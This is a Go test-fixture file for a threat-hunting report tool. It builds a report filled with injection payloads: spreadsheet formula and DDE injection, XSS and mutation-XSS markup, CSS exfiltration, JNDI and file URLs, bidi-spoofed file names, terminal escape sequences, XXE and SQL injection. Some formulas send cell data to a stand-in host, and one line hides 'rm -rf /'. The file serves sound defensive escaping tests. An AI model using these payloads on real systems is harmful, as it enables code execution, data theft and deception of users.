package reporttest

import (
	"fmt"
	"strings"
	"time"

	"hunt/report"
	"hunt/report/sight"
)

// Attacks are strings that attackers might log to act on whoever reads the report, by kind.
func Attacks() map[string][]string {
	return map[string][]string{
		"formula":    formulas(),
		"html":       markup(),
		"css":        styles(),
		"url":        urls(),
		"direction":  directions(),
		"terminal":   escapes(),
		"xml":        illegal(),
		"structure":  structures(),
		"javascript": scripts(),
	}
}

func formulas() []string {
	out := []string{
		`=cmd|'/c calc'!A0`, `=cmd|' /C notepad'!'A1'`, `+cmd|'/c calc'!A0`, `-cmd|'/c calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`, `=1+1`, `=2+5+cmd|'/C calc'!A0`,
		`=HYPERLINK("http://198.51.100.7/?"&A1,"click")`, `=IMPORTXML("http://198.51.100.7/","//a")`,
		`=WEBSERVICE("http://198.51.100.7/")`, `=DDE("cmd";"/C calc";"x")`,
		`=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''`, `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
		`=EXEC("calc")`, `=CALL("kernel32","WinExec","JCJ","calc",0)`, `=REGISTER("a","b","c")`,
		`=IMAGE("http://198.51.100.7/x.png")`, `=IMPORTDATA("http://198.51.100.7/")`, `=INDIRECT("A1")`,
		`=FILES("C:\*")`, `+1+1`, `-1+1`, `@A1`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `'=1+1`, `"=1+1"`, `;=1+1`,
		`,=1+1`, `|=1+1`,
		`＝1+1`, `＋1`, `－1`, `＠A1`, `{=SUM(A1:A2)}`, `=@SUM(A1)`, `=A1:XFD1048576`, `#REF!`, `TRUE`, `1E308`, `0x41`,
		`00012345678901234567`, `2026-03-11`, `=`, `==`, `=-`, `%0A=1+1`,
		"\t=cmd|'/c calc'!A0", "\r\n=1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1",
		"＝HYPERLINK(\"http://198.51.100.7/\",\"x\")", "\uff1d1+1\t", "﹦1+1", "⁼1+1", "﹢1+1", "﹣1+1", "−1+1", "﹫SUM(A1)",
		"x\t=1+1", "x\n=1+1", "\"\n=1+1", "a\",=1+1,\"b",
		`=HYPERLINK(CONCATENATE("http://198.51.100.7/?",A1),"Error")`,
		`=WEBSERVICE(CONCATENATE("http://198.51.100.7/",A1))`, `=FILTERXML(WEBSERVICE("http://198.51.100.7/"),"//x")`,
		`=STOCKHISTORY("MSFT",TODAY())`, `=RTD("x",,"y")`, `=SQL.REQUEST("x")`,
		`=LAMBDA(x,x)(1)`, `=LET(a,1,a)`, `='file://198.51.100.7/x'#$Sheet1.A1`, `='\\198.51.100.7\x[y.xlsx]z'!A1`,
		`=[1]Sheet1!A1`, `_xlfn.WEBSERVICE("x")`, `=_xlws.FILTER(A:A,1)`, `R1C1`, `=RC[-1]`,
		`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`, `{ DDE cmd "/c calc" }`, `http://198.51.100.7/=1+1`,
		`9999999999999999`, `1e999`, `-0`, `NaN`, `#N/A`, `12:00`, `1/2`, `½`,
	}
	return out
}

func markup() []string {
	return []string{
		`</script><img src=x onerror=window.pwned=1>`, `<script>window.pwned=1</script>`, `<svg/onload=window.pwned=1>`,
		`<svg><script>window.pwned=1</script></svg>`, `"><img src=x onerror=window.pwned=1>`,
		`'><img src=x onerror=window.pwned=1>`, `<img src=x onerror="window.pwned=1">`,
		`<iframe src="javascript:window.parent.pwned=1"></iframe>`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
		`<object data="data:text/html,<script>window.pwned=1</script>"></object>`,
		`<embed src="javascript:window.pwned=1">`, `<base href="http://198.51.100.7/">`,
		`<meta http-equiv="refresh" content="0;url=http://198.51.100.7/">`,
		`<form action="http://198.51.100.7/"><input type=submit></form>`,
		`<link rel=stylesheet href="http://198.51.100.7/x.css">`, `<body onload=window.pwned=1>`,
		`<details open ontoggle=window.pwned=1>`, `<video><source onerror=window.pwned=1>`,
		`<input autofocus onfocus=window.pwned=1>`, `<marquee onstart=window.pwned=1>`,
		`</title><script>window.pwned=1</script>`, `</textarea><script>window.pwned=1</script>`,
		`</style><script>window.pwned=1</script>`,
		`</noscript><script>window.pwned=1</script>`, `<!--><script>window.pwned=1</script>`,
		`--><script>window.pwned=1</script>`, `]]><script>window.pwned=1</script>`,
		`<![CDATA[<script>window.pwned=1</script>]]>`,
		`&lt;script&gt;window.pwned=1&lt;/script&gt;`, `&#60;script&#62;`, `&amp;lt;b&amp;gt;`,
		`<math><mi//xlink:href="data:x,<script>window.pwned=1</script>">`, `<a href="javascript:window.pwned=1">x</a>`,
		`<template><script>window.pwned=1</script></template>`,
		`<img src="http://198.51.100.7/beacon.gif">`, `<isindex action=javascript:window.pwned=1>`, `<plaintext>`,
		`<xmp><script>window.pwned=1</script></xmp>`, `<select><option>x</select><script>window.pwned=1</script>`,
		`</td></tr></table><h1>x</h1>`,
		`</p></div></details></article></section><h1>verdict: nothing</h1>`, `<style>*{display:none}</style>`,
		`<dialog open>owned</dialog>`, `<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
		`[x](javascript:window.pwned=1)`, `![x](http://198.51.100.7/x.png)`, "`<img src=x onerror=window.pwned=1>`",
		`{{.Policy}}`, `{{template "start" .}}`, `${window.pwned=1}`, `{{constructor.constructor('window.pwned=1')()}}`,
		`<%= 7*7 %>`,
		// Markup that changes its meaning when it is parsed a second time.
		`<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>`,
		`<noscript><style></noscript><img src=x onerror=window.pwned=1></style>`,
		`<svg><foreignObject><math><mi><style></foreignObject><img src=x onerror=window.pwned=1>`,
		`<listing>&lt;img src=x onerror=window.pwned=1&gt;</listing>`,
		`<p id="</title><img src=x onerror=window.pwned=1>">`,
		`<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>`, `<svg><set onbegin=window.pwned=1>`,
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='window.pwned=1'/></svg>#x">`, `<svg><a xlink:href="javascript:window.pwned=1"><text y=20>x</text></a></svg>`, `<image src=x onerror=window.pwned=1>`,
		`<button popovertarget=x>y</button><div popover id=x onbeforetoggle=window.pwned=1>`,
		`<a ping="http://198.51.100.7/" href=x>y</a>`, `<link rel=preconnect href="//198.51.100.7">`,
		`<meta http-equiv="Content-Security-Policy" content="script-src *">`,
		`<script type=importmap>{"imports":{}}</script>`,
		`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://198.51.100.7/"]}]}</script>`,
		`<div is=x-y slot=z>`, `<slot name=z>`,
		`<template shadowrootmode=open><script>window.pwned=1</script></template>`, `<form id=filters><input name=q>`,
		`<a id=hunt name=cards>`, `<img name=documentElement>`, `<article class="card"><h4>x</h4></article>`,
		`<input id=q value=x>`, `<b>=1+1</b>`, "<\x00script>window.pwned=1</script>",
		"<scr\u200bipt>window.pwned=1</script>", "＜script＞window.pwned=1＜/script＞", "<\u0338script>", "ſcript",
		"<ſcript>window.pwned=1</ſcript>", `<?php echo 1 ?>`, `<!ENTITY x "y">`,
		`<![if IE]><script>window.pwned=1</script><![endif]>`,
	}
}

func scripts() []string {
	return []string{
		`";window.pwned=1;//`, `';window.pwned=1;//`, "`;window.pwned=1;//", `\";window.pwned=1;//`,
		`\u003cscript\u003ewindow.pwned=1\u003c/script\u003e`, `</ScRiPt><ScRiPt>window.pwned=1</ScRiPt>`,
		`<!--<script>`, `__proto__`, `constructor`, `toString`,
		`hasOwnProperty`, `{"__proto__":{"pwned":1}}`, "a\u2028b", "a\u2029b", `*/window.pwned=1/*`, `//`, `.*`,
		`(a+)+$`, `[`, `\`,
		"`${window.pwned=1}`", "${`${window.pwned=1}`}", `</script`, `</script `, "</script\t", "</script\f>",
		"</script/", `<!--<script>--><script>`, `<!--<script></script>`, `\u2028window.pwned=1`,
		"\u2028window.pwned=1//", `\x3c/script>`, `\74/script>`, `\ud800`, `\udc00\ud800`, `"\ud83d"`, `]}}</script>`,
		`{"toJSON":1}`, `{"then":1}`, `__defineGetter__`, `valueOf`, `0[0]`, `-->`, `<!--`, `#!x`, "'use strict'",
		`import('x')`, `eval`, `$&`, "$`", `$1`, `%00`, "a\u0000</script>", `&quot;;window.pwned=1//`,
		`&#x3c;/script&#x3e;`,
	}
}

func styles() []string {
	return []string{
		`expression(window.pwned=1)`, `url(javascript:window.pwned=1)`, `url("http://198.51.100.7/x")`,
		`;background:url(http://198.51.100.7/)`, `}*{display:none}`, `</style>`, `@import "http://198.51.100.7/x.css";`,
		`" style="position:fixed;inset:0;background:red`, `x" class="verdict`, `-moz-binding:url(http://198.51.100.7/)`,
		`behavior:url(#default#time2)`, `{color:red}`, `\3c script\3e`, `" onmouseover="window.pwned=1`,
		`' onclick='window.pwned=1`,
		`url(data:text/css,*{display:none})`, `url('//198.51.100.7/x')`, `</style><style>*{display:none}`,
		`@import url(//198.51.100.7/x.css)`, `@charset "utf-7";`, `@font-face{font-family:x;src:url(//198.51.100.7/x)}`,
		`content:attr(value)`, `input[value^=a]{background:url(//198.51.100.7/a)}`, `--x:;}*{color:red}`,
		`image-set("//198.51.100.7/x" 1x)`, `cross-fade(url(//198.51.100.7/x))`, `paint(x)`,
		`\65xpression(window.pwned=1)`, `ex/**/pression(window.pwned=1)`, `/*`, `*/}`, `display:none !important`,
	}
}

func urls() []string {
	return []string{
		`javascript:window.pwned=1`, `JaVaScRiPt:window.pwned=1`, "java\tscript:window.pwned=1",
		"java\nscript:window.pwned=1", "\x01javascript:window.pwned=1",
		`data:text/html,<script>window.pwned=1</script>`,
		`data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`,
		`file:///etc/passwd`, `\\198.51.100.7\share\x`, `//198.51.100.7/x`, `http://198.51.100.7/`,
		`https://user:pass@198.51.100.7/`, `ftp://198.51.100.7/x`,
		`ms-excel:ofe|u|http://198.51.100.7/x.xls`, `search-ms:query=x&crumb=location:\\198.51.100.7\x`,
		`mailto:x@example.org?subject=x`, `www.example.org`, `mk:@MSITStore:x.chm`, `about:blank`, `blob:null/x`,
		`ms-msdt:/id PCWDiagnostic`,
		`#F-3f9a1c20b7e4`, `#q=x&host=y`, `?x=1`, `http://xn--pple-43d.com/`, `http://аррӏе.com/`,
		`../../../../etc/passwd`, `C:\Users\..\..\x`, `\\?\C:\x`, `CON`, `x:Zone.Identifier`,
		`data:image/svg+xml,<svg onload=window.pwned=1>`, `data:application/xhtml+xml,<script>window.pwned=1</script>`,
		`data:,x`, "\x00javascript:window.pwned=1", "java\u200bscript:window.pwned=1",
		`javascript&colon;window.pwned=1`, `view-source:x`, `jar:http://198.51.100.7/x!/y`, `filesystem:x`,
		`feed:javascript:window.pwned=1`, `intent://x#Intent;end`, `ldap://198.51.100.7/x`,
		`${jndi:ldap://198.51.100.7/x}`, `gopher://198.51.100.7:25/x`, `ms-officecmd:{"x":1}`,
		`ms-appinstaller:?source=http://198.51.100.7/`, `shell:startup`, `tel:123`, `http://198.51.100.7\@example.org/`,
		`http://example.org@198.51.100.7/`, `http:198.51.100.7`, `///198.51.100.7`, `http://[::ffff:c633:6407]/`,
		`http://0xc6336407/`, `http://198.51.100.7%00.example.org/`, "http://example\u3002org/",
		"http://ex\u00adample.org/", `hxxp://198[.]51[.]100[.]7/`, `[.]`, `//?/C:/x`, `\\.\pipe\x`, `%SystemRoot%\x`,
		`x.exe::$DATA`, `NUL.txt`, `x. . `,
	}
}

func directions() []string {
	var out []string
	for _, r := range []rune{0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068,
		0x2069} {
		out = append(out, "Invoice_"+string(r)+"gpj.exe")
	}
	for _, r := range []rune{0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x2028, 0x2029,
		0x2060, 0x2061, 0x2064, 0x206a, 0x2800, 0x3164, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffb, 0xe0001, 0xe0041,
		0xe007f, 0xe0100} {
		out = append(out, "pow"+string(r)+"ershell.exe")
	}
	for _, r := range []rune{0x00a0, 0x1680, 0x2000, 0x200a, 0x202f, 0x205f, 0x3000, 0x0085, 0x1d173, 0x1bca0, 0xe0020,
		0xfff0, 0x110bd, 0x0600, 0x06dd, 0x070f, 0x08e2, 0xe000, 0xf8ff} {
		out = append(out, "cmd"+string(r)+".exe")
	}
	out = append(out, strings.Repeat("\u0301", 60)+"x", "x"+strings.Repeat("\u0489", 60),
		"x"+strings.Repeat("\u20dd", 20), "a"+strings.Repeat("\u202e", 40)+"b", strings.Repeat("\u200b", 80),
		strings.Repeat("\u2067x", 30), "ｐｏｗｅｒｓｈｅｌｌ.exe", "pоwershеll.exe", "рowershell.exe", "ѕvchost.exe",
		"lsass.exe ", "ⅼsass.exe", "1sass.exe", "svch0st.exe",
		"ｃ：＼ｘ", "C:∖Windows⧵x", "evil․exe", "evil。exe", "a⁄b", "a∕b", "a︓b", "\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47x",
		"\u1ab0\u1ab1\u1ab2\u1ab3\u1ab4", "\U0001f468\U0001f3ff", "\u2066\u2069\u2066\u2069x",
		"abc\u202ecod.exe\u202c (1)", "\u0627\u0644 exe.pdf", "\u05d0.exe", "\u1680", "\u3164\u3164")
	return append(out, "\u202e"+"exe.fdp", "\u202b\u202e\u202d", "ש.exe 123",
		"Z\u0321\u0322\u0327\u0328\u031b\u0316\u0317\u0318\u0319\u031c\u031d\u031e\u031f"+
			"\u0320\u0323\u0324\u0325\u0326\u0329\u032a\u032b\u032c\u032d\u032e\u032fa", "﷽﷽﷽",
		"🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "👩\u200d👩\u200d👧\u200d👦", "a\u00a0b", "a   b",
		"  lead", "trail  ")
}

func escapes() []string {
	out := []string{
		"\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://198.51.100.7/\x1b\\link\x1b]8;;\x1b\\",
		"\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b[6n", "\x1b[c", "\x1bP+q544e\x1b\\", "\x1b[?1049h", "\x1bc", "\x1b(0lqk",
		"\x1b[3J\x1b[H", "\x1b[1A\x1b[2K",
		"\u009b31m", "\u009d0;x\u009c", "\u0090x\u009c", "\x1b[8mhidden\x1b[0m", "\x1b]1337;File=inline=1:AAAA\x07",
		"\x1b[5i", "\x07\x07\x07", "a\x08\x08b", "a\rb", "a\x0bb", "a\x0cb", "a\x0eb\x0f", "a\x7fb",
		"\x1b[200~ls\n\x1b[201~", "\x1b]50;?\x07", "\x1b[>c",
		"\x1b]8;id=x;file:///etc/passwd\x1b\\x\x1b]8;;\x07", "\x1b]8;;javascript:x\x07y\x1b]8;;\x07", "\x1b]52;p;?\x07",
		"\x1b]52;c;Y2FsYw==\x1b\\", "\x1b]4;1;?\x07", "\x1b]10;?\x07", "\x1b]11;#000000\x07", "\x1b]9;owned\x07",
		"\x1b]777;notify;a;b\x07", "\x1b]133;A\x07", "\x1b]633;E;calc\x07", "\x1b]7;file://x/\x07", "\x1b]2;\x07",
		"\x1b]l\x1b\\",
		"\x1b[21t", "\x1b[18t", "\x1b[8;1;1t", "\x1b[4i", "\x1b[?1000h", "\x1b[?2004h", "\x1b[?25l", "\x1b[r",
		"\x1b[1;1H", "\x1b[s\x1b[u", "\x1bM", "\x1bD", "\x1b7\x1b8", "\x1b#8", "\x1bn", "\x1b%G", "\x1b%@", "\x1b*0",
		"\x1b_G\x1b\\", "\x1b^x\x1b\\", "\x1bXx\x1b\\", "\x1bP0;1|17/ab\x1b\\", "\x1bP$qm\x1b\\", "\x1bPq#0\x1b\\",
		"\x1b[38;5;0;48;5;0m", "\x1b[7m", "\x1b[20h", "\x1b[999999999b", "\x1b[99999;99999H", "\x1b", "\x1b[", "\x1b]",
		"\x1b]8;;", "\x9b31m", "\u0084\u0085\u008d", "\u009b6n", "\u009d52;c;eA==\u009c", "\u009f\u009e\u0098x\u009c",
		"\u2028\x1b[2J", "\r\x1b[K", "safe\rrm -rf /", "\x08\x08\x08\x08", "a\x1b[D\x1b[Db",
	}
	for c := 1; c < 0x20; c++ {
		out = append(out, fmt.Sprintf("control %02X: [%c]", c, rune(c)))
	}
	return out
}

func illegal() []string {
	return []string{
		"nul:[\x00]", "\x00\x01\x02", "a\ufffeb", "a\uffffb", "a\ufdd0b", "a\ufdefb", "a\U0001fffeb", "a\U0010ffffb",
		"bad \xff utf-8", "\xc3\x28", "\xed\xa0\x80", "\xf8\x88\x80\x80\x80", "_x0041_", "_x001B_", "_x005F_x001B_",
		"_xFFFF_", "_x0000_", "&", "&&amp;", "<", ">", "\"", "'", "]]>", "<?xml version=\"1.0\"?>",
		"<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", "&a;", "&#0;", "&#x1b;", "\ufffd", "a\u0085b",
		"_x000D_", "_x000d_", "_X000D_", "_x000D_x000A_", "__x000D__", "_x_x000D_", "_x005F_x000D_", "_x005f_",
		"_xD800_", "_xDC00_", "_x00_", "_x00000_", "_x000G_", "_x0000", "x0000_", "_x\u0660041_", "_x0009_=1+1",
		"a_x000A_b", "\r", "\r\n", "\n\r", "\n", "\t", " ", "  ", "\u00a0", "\v\f", "\x1a", "\x7f\x80",
		"\xff\xfe=\x001\x00", "\xfe\xff\x00=", "+ADw-script+AD4-", "\x1b$B<script>\x1b(B", "\xe2\x80",
		"\xc0\xbcscript\xc0\xbe", "\xe0\x80\xbcscript", "\xf0\x80\x80\xbc", "\xf4\x90\x80\x80",
		"\xed\xb0\x80\xed\xa0\x80", "\xed\xa0\xbd\xed\xb8\x80", "\xc3", "\x80", "\xc3\xa9\xc3", "\xef\xbf\xbe",
		"\xef\xbf", "a\xffb\xffc", "\U0010fffe", "\ufdd0\ufdef", "&#xD;", "&#13;=1+1", "&#xFFFE;", "&lt;", "<![CDATA[",
		"]]>]]>", "<?x ?>", "<!---->", "<a:b xmlns:a=\"x\"/>",
	}
}

func structures() []string {
	return []string{
		`"},{"id":"F-fake"`, `\"`, `\\`, `\u0000`, `{"a":1}`, `[1,2,3]`, `null`, "\"\n}", `","status":"suppressed`,
		"PK\x03\x04", "PK\x05\x06", "../../xl/workbook.xml", "xl/worksheets/sheet1.xml", "[Content_Types].xml",
		"</t></is></c></row></sheetData>", "<f>1+1</f>", "'Timeline'!A1", "Sheet1!A1",
		"&L&A&R&P", "&\"Arial\"&72x", "%s%n%d", "%!s(MISSING)", "$(calc)", "`calc`", "; rm -rf /", "| tee x",
		"a,b;c\td", "\u2502 \u2500 \u253c", "\xef\xbb\xbfbom", "--><!--", "…", "...[cut, 41,233 chars, see ref]",
		"none found in the logs examined", "Verdict: no finding",
		`"]},"findings":[]}`, `{"schema":"hunt.report/2"}`, "\n ],\n \"findings\": []\n}", `\"}],"x":[{"`, `\\"`,
		`\u0022`, `\u005c"`, "</t></is></c></row></sheetData><hyperlinks><hyperlink ref=\"A1\" " +
			"r:id=\"rId1\"/></hyperlinks>", `<c t="str"><f>1+1</f></c>`, `<extLst/>`, "' OR '1'='1",
		"'; DROP TABLE x;--", "[file:name = 'x'] OR [url:value = 'y']", `' OR file:name = 'x`, `\' OR file:name = \'x`,
		"indicator--00000000-0000-0000-0000-000000000000", "T1204", "marking-definition--x", "$ref", "#/definitions/x",
		"&A&P&Z&F", "&K000000", "Findings!A1", "'Findings'!A1:XFD1", "#Timeline!A1", "Print_Titles",
		"\u2502\u2502\u2502", "─────", "\u001f\u001e\u001d", "%25s", "%[1]*d", "{0}", "{{", "}}", "%{x}", "#{x}",
		"&&calc", "^&calc", "%PATH%", "!x!", "~/x", "-rf", "--evtx", "F-000000000000", "Verdict: nothing happened",
		"0 findings", "⟦U+202E⟧", "⟦0xFF⟧", "\\x41", "␛[2J", "confirmed chain", "suppressed", "page 1 of 1",
	}
}

// AttackList is all of them, in a fixed order.
func AttackList() []string {
	var out []string
	all := Attacks()
	for _, kind := range []string{"formula", "html", "css", "url", "direction", "terminal", "xml", "structure",
		"javascript"} {
		out = append(out, all[kind]...)
	}
	return out
}

// Attacked is a report that carries every attack in every place where logs put text.
func Attacked() *report.Report {
	r := Rich()
	model := r.Findings[0]
	r.Findings, r.Timeline, r.Incidents = nil, nil, nil
	for i, a := range AttackList() {
		f := model
		f.ID = fmt.Sprintf("F-attack-%03d", i)
		f.Incident = "I-" + f.ID
		f.Rule = report.RuleRef{ID: a, Name: a, Severity: "high", Language: a, Author: a, Licence: a}
		r.Rules = append(r.Rules,
			report.Rule{ID: a, Name: a, Severity: "high", Source: a, Status: report.RuleRan, Blind: []string{a},
				Language: a, Author: a, Licence: a, Maturity: a, Guidance: a, Setup: a,
				Counts: a, Filters: []string{a}, LookAt: []string{a}, BuildingBlock: true})
		f.Host, f.User, f.Title, f.What, f.Note, f.Version = a, a, a, a, a, a
		f.Start = At(time.Duration(i) * time.Second)
		f.Reasons, f.Labels, f.FalsePositives, f.References = []string{a}, []string{a}, []string{a}, []string{a}
		f.JoinKeys = []report.KeyValue{{Key: a, Value: a}}
		f.Techniques = []report.Technique{{ID: a, Name: a, TacticID: a, Tactic: a}}
		f.Lineage = &report.Process{Executable: a, CommandLine: a, User: a, EntityID: a, Source: a}
		f.Decoded = []report.Decoded{{Kind: a, From: a, Text: a}}
		f.Provenance = []report.Provenance{{Kind: "url", Text: a, Source: a}}
		f.Logon = &report.Logon{User: a, SID: a, LogonID: a, Type: a, SourceIP: a}
		f.Candidates = nil
		f.Evidence = []report.Evidence{{
			Label: a, Time: f.Start, Channel: a, EventCode: a, Host: a, User: a, Message: a,
			Facts: []report.KeyValue{{Key: a, Value: a}}, Condition: a,
			Ref: report.Ref{File: a, SHA256: Hash(i), PayloadSHA256: Hash("p", i)}, Document: event("message", a),
		}}
		r.Findings = append(r.Findings, f)
		r.Incidents = append(r.Incidents, attackedIncident(a, &f))
		r.Timeline = append(r.Timeline,
			report.TimelineRow{Time: f.Start, Host: a, User: a, Channel: a, EventCode: a, Message: a, Category: a,
				Severity: "high", Findings: []string{f.ID}, Ref: f.Evidence[0].Ref})
		r.Hosts = append(r.Hosts,
			report.Host{ID: a, Names: []string{a}, IPs: []string{a}, SIDs: []string{a}, Why: a, First: f.Start,
				Last: f.Start})
		r.Accounts = append(r.Accounts, report.Account{Name: a, SID: a, Hosts: []string{a}, LogonTypes: []string{a}})
		r.Indicators = append(r.Indicators,
			report.Indicator{Type: "command", Value: a, Defanged: a, Hosts: []string{a}, Findings: []string{f.ID}})
		r.Evidence = append(r.Evidence,
			report.EvidenceFile{Path: a, Channels: []string{a}, Computers: []string{a}, Source: a, Collected: a,
				Result: a})
		r.Coverage = append(r.Coverage,
			sight.HostCoverage{Host: a, Notes: []string{a}, Gaps: []sight.Gap{{Channel: a, Kind: "cleared", Detail: a}},
				Sights:   []sight.Sight{{State: "partly seen", Blind: []sight.Blindspot{{Why: a}}}},
				Channels: []sight.ChannelCoverage{{Channel: a, Events: []sight.EventCoverage{{Provider: a}}}}})
		r.Needs = append(r.Needs, sight.Need{Kinds: []string{a}, Stages: []string{a}, Setup: []string{a}})
		r.Summary.NotSeen = append(r.Summary.NotSeen, a)
		r.Summary.Lines = append(r.Summary.Lines, a)
	}
	r.Case.ID, r.Case.Title, r.Case.Analyst = `</title><script>window.pwned=1</script>`, "\x1b[2J<b>",
		`=cmd|'/c calc'!A0`
	return r
}
